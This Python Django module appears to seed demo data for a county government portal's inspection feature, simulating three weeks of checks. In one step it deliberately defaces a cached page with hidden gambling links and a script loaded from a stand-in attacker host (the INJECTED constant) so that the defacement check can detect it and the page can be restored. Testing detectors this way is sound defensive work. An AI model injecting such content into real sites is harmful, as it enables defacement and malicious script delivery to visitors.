"""Demo data of the oversight part `inspection`: an inspection history of the county portal over the
past three weeks, through the real runner (oversight/inspection/runner.py) and actions.

1. three weeks ago, the daily inspection;
2. two weeks ago, a published document page's served copy is defaced — hidden gambling links and a
   foreign script injected into the page cache, as an intruder on the server would — and the
   inspection finds it (网页篡改, a veto item); the copy is restored, and the document's agency marks
   the finding fixed with a note;
3. a week ago, the next inspection no longer finds it: 复查通过;
4. today, the supervisor's 立即检查.

Running it twice adds nothing (a portal with inspections is left as it is).
"""

from __future__ import annotations

import datetime as dt

from django.core.cache import caches
from django.test import Client, override_settings
from django.utils import timezone

from gongkai.agencies.models import Role, Staff
from gongkai.common import pagecache
from gongkai.common.models import PublishedPage
from gongkai.oversight import inspection_actions
from gongkai.oversight.inspection_queries import can_fix, manages_site
from gongkai.oversight.models import Finding, Inspection
from gongkai.portal.models import Site

from .county import demo_username

INJECTED = (
    '<div class="ad-slot" style="position:absolute;left:-9999px">'
    '<a href="http://casino.example.com/">线上娱乐城，开户送彩金</a></div>'
    '<script src="http://evil.example.net/x.js"></script></body>'
).encode()
FIX_NOTE = "已从原始发布版本恢复被篡改页面，更换服务器账号口令并清理页面缓存，已报网信部门备案。"


def _host(site: Site) -> str:
    first = site.hosts.first()
    return first.host if first else "127.0.0.1"


def _cached(host: str, path: str):
    key = pagecache.key_for(host, path, "", pagecache.generation.current())
    return key, caches[pagecache.ALIAS].get(key)


def _deface(site: Site) -> tuple[str, str, tuple] | None:
    """Change the served copy of one published document page of the site; return what to restore."""
    host = _host(site)
    for page in PublishedPage.objects.filter(host=host, path__startswith="/documents/").order_by("path")[:20]:
        key, stored = _cached(host, page.path)
        if stored is None:
            Client().get(page.path, HTTP_HOST=host)  # served once: now in the cache
            key, stored = _cached(host, page.path)
        if stored is None or b"</body>" not in stored[2]:
            continue
        status, headers, content = stored
        caches[pagecache.ALIAS].set(key, (status, headers, content.replace(b"</body>", INJECTED, 1)), 3600)
        return key, page.path, stored
    return None


def _fixer(finding: Finding, supervisor: Staff | None) -> Staff | None:
    """Who marks the finding fixed: a clerk of its agency, else a supervisor over it."""
    candidates = list(
        Staff.objects.filter(agency=finding.agency_id, roles__role=Role.CLERK).order_by("pk")[:1]
    )
    candidates += [supervisor] if supervisor else []
    candidates += list(Staff.objects.filter(roles__role=Role.SUPERVISOR).order_by("pk")[:5])
    return next((c for c in candidates if can_fix(c, finding)), None)


# The demo's four inspections crawl at most this many pages each (a full crawl of the demo portal is about 3,000
# pages and 1 minute a run on an idle machine; four of them would triple the time `gongkai demo` takes). The
# defacement check reads every recorded page whatever the bound; a bounded run says so in its summary.
DEMO_MAX_PAGES = 600


def build(agencies, out) -> None:
    with override_settings(GONGKAI_INSPECTION_MAX_PAGES=DEMO_MAX_PAGES):
        _build(out)


def _build(out) -> None:
    from gongkai.oversight.inspection.runner import run_inspection

    portal = Site.objects.filter(is_default=True).first()
    if portal is None:
        return
    if Inspection.objects.filter(site=portal).exists():
        out.write(f"网站检查：{portal.name}的检查记录已存在。")
        return
    supervisor = Staff.objects.filter(username=demo_username("xzfb", Role.SUPERVISOR)).first()  # 县政府办公室
    now = timezone.now()
    first = run_inspection(portal, now=now - dt.timedelta(days=21))

    defaced = _deface(portal)
    second = run_inspection(portal, now=now - dt.timedelta(days=14))
    if defaced is not None:
        key, path, original = defaced
        caches[pagecache.ALIAS].set(key, original, 3600)  # restored from what gongkai published
        finding = (
            second.findings.filter(check_code="pages.defaced", url=path).select_related("agency").first()
        )
        if finding is not None:
            actor = _fixer(finding, supervisor)
            if actor is not None:
                inspection_actions.mark_fixed(actor, finding, note=FIX_NOTE)
                Finding.objects.filter(pk=finding.pk).update(fixed_at=now - dt.timedelta(days=13))
    third = run_inspection(portal, now=now - dt.timedelta(days=7))
    if supervisor is not None and manages_site(supervisor, portal):
        today = inspection_actions.start_inspection(supervisor, portal)
    else:
        today = run_inspection(portal)
    scores = "，".join(
        f"{timezone.localtime(i.started_at):%m-%d} {i.score}分{'（单项否决）' if i.vetoed else ''}"
        for i in (first, second, third, today)
    )
    out.write(f"网站检查：{portal.name} 近三周检查4次：{scores}")
